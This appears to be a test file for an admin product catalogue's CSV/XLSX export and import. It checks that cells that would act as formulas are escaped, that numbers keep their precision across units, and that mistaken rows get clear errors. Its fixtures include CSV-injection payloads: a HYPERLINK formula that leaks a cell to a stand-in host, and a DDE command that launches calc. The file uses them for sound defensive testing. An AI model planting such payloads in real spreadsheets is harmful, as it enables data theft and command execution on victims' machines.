/**
 * The export and the import through a spreadsheet, against the real routes and database (both
 * providers): text a spreadsheet would run as a formula, numbers a spreadsheet keeps to 15
 * significant digits, units in the attribute headers, and the rows a spreadsheet or a person
 * gets wrong (specifications saying another value than an attribute, SKUs that lost their zeros).
 */
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { POST as createCategoryRoute } from "@/app/api/admin/categories/route";
import { GET as exportRoute } from "@/app/api/admin/products/export/route";
import { POST as importRoute } from "@/app/api/admin/products/import/route";
import { POST as createProductRoute } from "@/app/api/admin/products/route";
import type { AttributeDef } from "@/lib/attributes";
import { toCsv } from "@/lib/csv";
import type { ImportFileProblem, ImportReport } from "@/lib/import-report";
import { db } from "@/server/db/client";
import { useTestDatabase } from "../db";
import { makeAdmin, makeCategory, makeProduct } from "../factories";
import { login, send, snapshot, unchanged, validCategory, validProduct } from "../kit";

useTestDatabase();

const GAUGE_DEFS: AttributeDef[] = [
  { key: "thickness", label: "Thickness", type: "number", unit: "gauge", filter: "range" },
  { key: "width", label: "Width", type: "number", unit: "in", filter: "values" },
  { key: "tint", label: "Tint", type: "text", unit: null, filter: "values" },
  { key: "note", label: "Note", type: "text", unit: null, filter: "none" },
  { key: "rollsPerCase", label: "Rolls per case", type: "number", unit: null, filter: "none" },
];
const MIL_DEFS: AttributeDef[] = [{ key: "thickness", label: "Thickness", type: "number", unit: "mil", filter: "range" }];
const MICRON_DEFS: AttributeDef[] = [
  { key: "size", label: "Size", type: "text", unit: null, filter: "values" },
  { key: "thickness", label: "Thickness", type: "number", unit: "micron", filter: "values" },
  { key: "countPerCase", label: "Count per case", type: "number", unit: null, filter: "none" },
];
/** Bags in microns: one thickness exact at the unit's precision, one beyond it (0.8333 mil), one whole. */
const MICRON_BAGS = [
  { sku: "TSB-1", attributes: { size: "1/6 BBL", thickness: 17.78, countPerCase: 1000 } },
  { sku: "TSB-2", attributes: { size: "1/8 BBL", thickness: 63.5 / 3, countPerCase: 500 } },
  { sku: "TSB-3", attributes: { size: "1/10 BBL", thickness: 50, countPerCase: 250 } },
];

/** Text each spreadsheet program runs as a formula when a CSV cell starts with it. */
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  description: "+cmd|' /C calc'!A0",
  unitOfSale: "-2+3",
  tint: "@SUM(1)",
  note: "'=already quoted",
};
/** 20 µm and 16 mm as gauge and inches: what a change of unit stores (16-17 significant digits). */
const CONVERTED = { thickness: 78.74015748031496, width: 0.6299212598425197, rollsPerCase: 1 / 3 };

let cookie = "";
let gaugeSlug = "";
let milSlug = "";
beforeAll(async () => {
  await makeAdmin();
  cookie = await login();
  const gauge = await send(createCategoryRoute, "POST", "/api/admin/categories", {
    cookie,
    body: validCategory("trust-gauge", { attributes: GAUGE_DEFS }),
  });
  const mil = await send(createCategoryRoute, "POST", "/api/admin/categories", {
    cookie,
    body: validCategory("trust-mil", { attributes: MIL_DEFS }),
  });
  expect([gauge.status, mil.status]).toEqual([201, 201]);
  [gaugeSlug, milSlug] = [gauge.body.slug, mil.body.slug];
  for (const body of [
    await validProduct("trust-hostile", {
      ...HOSTILE,
      tint: undefined,
      note: undefined,
      sku: "TRUST-1",
      categoryId: gauge.body.id,
      attributes: { ...CONVERTED, tint: HOSTILE.tint, note: HOSTILE.note },
    }),
    await validProduct("trust-mil", {
      sku: "TRUST-2",
      categoryId: mil.body.id,
      attributes: { thickness: 0.7874015748031497 },
      specifications: "{}",
    }),
    await validProduct("trust-zeros", {
      sku: "000456",
      categoryId: gauge.body.id,
      attributes: { width: 18 },
      specifications: JSON.stringify({ Width: "18 in", Core: "3 in" }),
    }),
  ]) {
    const created = await send(createProductRoute, "POST", "/api/admin/products", { cookie, body });
    expect(created.status).toBe(201);
  }
  const bags = await makeCategory({ name: "T-Shirt Bags", slug: "t-shirt-bags", attributes: MICRON_DEFS });
  for (const bag of MICRON_BAGS) await makeProduct({ ...bag, name: `T-Shirt Bag ${bag.attributes.size}`, category: bags });
});

async function download(format: "csv" | "xlsx"): Promise<Buffer> {
  const res = await exportRoute(
    new Request(`http://localhost:3000/api/admin/products/export?format=${format}`, { headers: { cookie, host: "localhost:3000" } }),
    { params: Promise.resolve({}) },
  );
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

async function importFile(file: Uint8Array | string, opts: { dryRun?: boolean; name?: string } = {}) {
  const data = new FormData();
  data.set("file", new File([typeof file === "string" ? file : Buffer.from(file)], opts.name ?? "products.csv"));
  return send<ImportReport & Partial<ImportFileProblem>>(importRoute, "POST", "/api/admin/products/import", {
    cookie,
    body: data,
    query: opts.dryRun ? { dryRun: "1" } : {},
  });
}

const readCsv = (bytes: Buffer | string) => parse(bytes, { bom: true, relax_column_count: false }) as string[][];
const cellOf = (records: string[][], sku: string, column: string) => {
  expect(records[0]).toContain(column);
  return records.find((r) => r[0] === sku)![records[0].indexOf(column)];
};
const changesOf = (report: ImportReport) => report.rows.filter((r) => r.action !== "unchanged");

describe("text a spreadsheet would run as a formula", () => {
  test("the CSV writes it after a single quote, and the import takes the quote off: every row reads back unchanged, and applying changes nothing", async () => {
    const csv = await download("csv");
    const records = readCsv(csv);
    expect(cellOf(records, "TRUST-1", "name")).toBe(`'${HOSTILE.name}`);
    expect(cellOf(records, "TRUST-1", "description")).toBe(`'${HOSTILE.description}`);
    expect(cellOf(records, "TRUST-1", "unitOfSale")).toBe(`'${HOSTILE.unitOfSale}`);
    expect(cellOf(records, "TRUST-1", "attr.tint")).toBe(`'${HOSTILE.tint}`);
    // Text already starting with quotes before such a character gets one more, so that taking one off is exact.
    expect(cellOf(records, "TRUST-1", "attr.note")).toBe(`'${HOSTILE.note}`);
    // No cell of the file starts a formula.
    for (const row of records) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const dry = await importFile(csv, { dryRun: true });
    expect(dry.status).toBe(200);
    expect(changesOf(dry.body)).toEqual([]);
    expect((await unchanged(() => importFile(csv))).status).toBe(200);
    const stored = await db.product.findUniqueOrThrow({ where: { sku: "TRUST-1" } });
    expect(stored).toMatchObject({ name: HOSTILE.name, description: HOSTILE.description, unitOfSale: HOSTILE.unitOfSale });
    expect(JSON.parse(stored.attributes)).toMatchObject({ tint: HOSTILE.tint, note: HOSTILE.note });
  });

  test("a CSV cell quoted before a tab or a CR gives the text after the quote", async () => {
    const file = toCsv([
      ["sku", "name", "category", "description", "unitOfSale", "specifications"],
      ["TRUST-TAB", "'\tTabbed name", gaugeSlug, "'\rCR first", "'-", "{}"],
    ]);
    const answer = await importFile(file);
    expect(answer.status).toBe(200);
    // The form trims text: what is left is the words, without the quote.
    expect(await db.product.findUniqueOrThrow({ where: { sku: "TRUST-TAB" } })).toMatchObject({
      name: "Tabbed name",
      description: "CR first",
      unitOfSale: "-",
    });
  });

  test("the XLSX keeps it as text cells, never formulas, without a quote, and reads back unchanged", async () => {
    const xlsx = await download("xlsx");
    const zip = await JSZip.loadAsync(xlsx);
    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets).toHaveLength(1);
    expect(await zip.file(sheets[0])!.async("string")).not.toMatch(/<f[ >]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const header = sheet.getRow(1).values as unknown[];
    let n = 2;
    while (sheet.getRow(n).getCell(1).value !== "TRUST-1") n++;
    for (const [column, text] of [
      ["name", HOSTILE.name],
      ["description", HOSTILE.description],
      ["unitOfSale", HOSTILE.unitOfSale],
      ["attr.tint", HOSTILE.tint],
      ["attr.note", HOSTILE.note],
    ]) {
      const cell = sheet.getRow(n).getCell(header.indexOf(column));
      expect([column, cell.type, cell.value]).toEqual([column, ExcelJS.ValueType.String, text]);
    }
    const dry = await importFile(xlsx, { dryRun: true, name: "products.xlsx" });
    expect(changesOf(dry.body)).toEqual([]);
  });
});

describe("numbers", () => {
  test("each attribute number is in a column named with its unit, at that unit's precision; a key in two units has two columns", async () => {
    const records = readCsv(await download("csv"));
    const header = records[0];
    expect(header).toEqual(
      expect.arrayContaining(["attr.thickness (gauge)", "attr.thickness (mil)", "attr.width (in)", "attr.tint", "attr.rollsPerCase"]),
    );
    expect(header).not.toContain("attr.thickness");
    expect(cellOf(records, "TRUST-1", "attr.thickness (gauge)")).toBe("78.74");
    expect(cellOf(records, "TRUST-1", "attr.width (in)")).toBe("0.6299");
    expect(cellOf(records, "TRUST-1", "attr.rollsPerCase")).toBe("0.333");
    expect(cellOf(records, "TRUST-1", "attr.thickness (mil)")).toBe("");
    expect(cellOf(records, "TRUST-2", "attr.thickness (mil)")).toBe("0.7874");
    expect(cellOf(records, "TRUST-2", "attr.thickness (gauge)")).toBe("");
    // The thickness in microns has its own column too, at two decimals.
    const micron = header.find((h) => h.startsWith("attr.thickness (µm"));
    expect(micron).toBe("attr.thickness (µm)");
    expect(MICRON_BAGS.map((b) => cellOf(records, b.sku, "attr.thickness (µm)"))).toEqual(["17.78", "21.17", "50"]);
    expect(cellOf(records, "TSB-1", "attr.thickness (gauge)")).toBe("");
    // Every number in every attribute column survives a spreadsheet's 15 significant digits.
    for (const row of records.slice(1)) {
      row.forEach((cell, i) => {
        if (header[i].startsWith("attr.") && /^\d+(\.\d+)?$/.test(cell)) expect(String(Number(Number(cell).toPrecision(15)))).toBe(cell);
      });
    }
  });

  test("an XLSX saved again by a spreadsheet (numbers to 15 significant digits, text cells as text) reads as 0 updates", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download("xlsx")) as unknown as ArrayBuffer);
    let numbers = 0;
    workbook.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === "number") {
          cell.value = Number(cell.value.toPrecision(15));
          numbers++;
        }
      }),
    );
    // TRUST-1's three, TRUST-2's and 000456's one each, and two on each bag in microns.
    expect(numbers).toBe(3 + 1 + 1 + 2 * MICRON_BAGS.length);
    const saved = new Uint8Array(await workbook.xlsx.writeBuffer());
    const dry = await importFile(saved, { dryRun: true, name: "resaved.xlsx" });
    expect(dry.status).toBe(200);
    expect(dry.body.summary).toMatchObject({ update: 0, create: 0, errors: 0 });
    expect((await unchanged(() => importFile(saved, { name: "resaved.xlsx" }))).status).toBe(200);
  });

  test("a CSV whose attribute numbers went through 15 significant digits reads as 0 updates", async () => {
    const records = readCsv(await download("csv"));
    const resaved = records.map((row, r) =>
      row.map((cell, i) =>
        r > 0 && records[0][i].startsWith("attr.") && /^\d+\.\d+$/.test(cell) ? String(Number(Number(cell).toPrecision(15))) : cell,
      ),
    );
    const dry = await importFile(toCsv(resaved), { dryRun: true });
    expect(dry.body.summary).toMatchObject({ update: 0, create: 0, errors: 0 });
  });

  test("a number edited beyond its precision is one change, stored at that precision; one at the same precision keeps the stored value", async () => {
    const file = toCsv([
      ["sku", "attr.thickness (gauge)", "attr.width (in)"],
      ["TRUST-1", "78.740157", "0.63"],
    ]);
    const dry = await importFile(file, { dryRun: true });
    // The specifications follow the attribute (the form's rule); the thickness is no change.
    expect(dry.body.rows).toEqual([
      {
        row: 2,
        sku: "TRUST-1",
        action: "update",
        changes: { "attr.width (in)": ["0.6299", "0.63"], specifications: [expect.any(String), expect.any(String)] },
      },
    ]);
    expect((await importFile(file)).status).toBe(200);
    const stored = await db.product.findUniqueOrThrow({ where: { sku: "TRUST-1" } });
    expect(JSON.parse(stored.attributes)).toMatchObject({ thickness: CONVERTED.thickness, width: 0.63 });
    expect(JSON.parse(stored.specifications)).toMatchObject({ Width: "0.63 in" });
    // Put it back for the other tests.
    await db.product.update({
      where: { sku: "TRUST-1" },
      data: { attributes: JSON.stringify({ ...JSON.parse(stored.attributes), width: CONVERTED.width }) },
    });
  });

  test("a number in another unit's column is converted to the category's; the header without a unit means the category's own", async () => {
    const file = toCsv([
      ["sku", "attr.thickness (mil)", "attr.thickness (gauge)", "attr.thickness"],
      ["TRUST-2", "", "100", ""],
    ]);
    const dry = await importFile(file, { dryRun: true });
    expect(dry.body.rows).toEqual([
      { row: 2, sku: "TRUST-2", action: "update", changes: expect.objectContaining({ "attr.thickness (mil)": ["0.7874", "1"] }) },
    ]);
    // A product moved to a category in mil, its value left in the gauge column.
    const moved = await importFile(
      toCsv([
        ["sku", "category", "attr.thickness (gauge)", "attr.thickness (mil)"],
        ["TRUST-1", milSlug, "78.74", ""],
      ]),
      { dryRun: true },
    );
    expect(moved.body.rows[0]).toMatchObject({
      action: "update",
      changes: { category: [gaugeSlug, milSlug], "attr.thickness (gauge)": ["78.74", ""], "attr.thickness (mil)": ["", "0.7874"] },
    });
    const old = await importFile(
      toCsv([
        ["sku", "ATTR.Thickness"],
        ["TRUST-2", "0.9"],
      ]),
      { dryRun: true },
    );
    expect(old.body.rows).toEqual([
      { row: 2, sku: "TRUST-2", action: "update", changes: expect.objectContaining({ "attr.thickness (mil)": ["0.7874", "0.9"] }) },
    ]);
    const both = await importFile(
      toCsv([
        ["sku", "attr.thickness (mil)", "attr.thickness (µm)"],
        ["TRUST-2", "1", "25.4"],
      ]),
      { dryRun: true },
    );
    expect(both.body.rows[0]).toMatchObject({
      action: "error",
      errors: { "attr.thickness (µm)": "Thickness is also given in attr.thickness (mil): give it in one column" },
    });
    const wrong = await importFile(
      toCsv([
        ["sku", "attr.thickness (ft)"],
        ["TRUST-2", "1"],
      ]),
      { dryRun: true },
    );
    expect(wrong.body.rows[0]).toMatchObject({
      action: "error",
      errors: { "attr.thickness (ft)": expect.stringMatching(/^Thickness is in mil in .*give it in attr\.thickness \(mil\)$/) },
    });
    const unknownUnit = await importFile(
      toCsv([
        ["sku", "attr.thickness (furlongs)"],
        ["TRUST-2", "1"],
      ]),
      { dryRun: true },
    );
    expect(unknownUnit.status).toBe(400);
    expect(unknownUnit.body.errors?.file).toMatch(/^Column attr\.thickness \(furlongs\) names no unit the catalogue knows/);
  });
});

describe("rows a spreadsheet or a person gets wrong", () => {
  test("specifications edited to say another value than an attribute holds: an error on that row, not 'unchanged'", async () => {
    const records = readCsv(await download("csv"));
    const row = records.findIndex((r) => r[0] === "000456");
    const specs = records[0].indexOf("specifications");
    expect(JSON.parse(records[row][specs])).toEqual({ Width: "18 in", Core: "3 in" });
    records[row][specs] = JSON.stringify({ Width: "24 in", Core: "3 in" });
    const before = await snapshot();
    const answer = await importFile(toCsv(records));
    expect(answer.status).toBe(400);
    expect(answer.body.rows.find((r) => r.sku === "000456")).toEqual({
      row: row + 1,
      sku: "000456",
      action: "error",
      errors: { specifications: 'Specifications say Width is "24 in" but attr.width (in) is 18: change both to the same value' },
    });
    expect(await snapshot()).toEqual(before);

    // Both changed together is an update; only the attribute changed rewrites the specifications.
    records[row][records[0].indexOf("attr.width (in)")] = "24";
    const agreed = await importFile(toCsv(records), { dryRun: true });
    expect(agreed.body.rows.find((r) => r.sku === "000456")).toMatchObject({
      action: "update",
      changes: { "attr.width (in)": ["18", "24"] },
    });
    records[row][specs] = JSON.stringify({ Width: "18 in", Core: "3 in" });
    const attributeOnly = await importFile(toCsv(records), { dryRun: true });
    expect(attributeOnly.body.rows.find((r) => r.sku === "000456")).toMatchObject({
      action: "update",
      changes: {
        "attr.width (in)": ["18", "24"],
        specifications: [JSON.stringify({ Width: "18 in", Core: "3 in" }), JSON.stringify({ Width: "24 in", Core: "3 in" })],
      },
    });
  });

  test("a new row with an empty specifications cell is created, its specifications holding its attributes", async () => {
    const file = toCsv([
      ["sku", "name", "category", "description", "specifications", "attr.width (in)", "attr.tint"],
      ["TRUST-NEW", "No specs yet", gaugeSlug, "d", "", "20", "Blue"],
    ]);
    const answer = await importFile(file);
    expect(answer.status).toBe(200);
    expect(answer.body.summary).toMatchObject({ create: 1, errors: 0 });
    const stored = await db.product.findUniqueOrThrow({ where: { sku: "TRUST-NEW" } });
    expect(JSON.parse(stored.specifications)).toEqual({ Width: "20 in", Tint: "Blue" });
  });

  test("a SKU that lost its leading zeros says so, rather than that the slug is taken", async () => {
    const records = readCsv(await download("csv"));
    const row = records.findIndex((r) => r[0] === "000456");
    records[row][0] = "456";
    const answer = await unchanged(() => importFile(toCsv(records)));
    expect(answer.status).toBe(400);
    expect(answer.body.summary.errors).toBe(1);
    expect(answer.body.rows.find((r) => r.sku === "456")).toEqual({
      row: row + 1,
      sku: "456",
      action: "error",
      errors: {
        sku: "No product has SKU 456, but 000456 exists: a spreadsheet dropped its leading zeros. Edit the XLSX export, or open the CSV with the sku column as text",
      },
    });
  });
});
